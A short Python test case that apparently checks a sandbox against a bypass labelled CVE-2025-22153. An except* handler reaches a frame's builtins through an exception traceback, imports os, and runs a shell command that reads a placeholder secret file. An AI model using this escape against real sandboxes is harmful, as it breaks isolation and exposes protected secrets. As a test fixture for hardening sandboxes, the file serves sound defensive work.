# CVE-2025-22153's construct: except* binds a group whose members keep their tracebacks.
# effect: run
def work():
    try:
        yield 1
    except* ValueError as group:
        group.exceptions[0].__traceback__.tb_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
        yield 2
running = work()
next(running)
running.throw(ValueError())
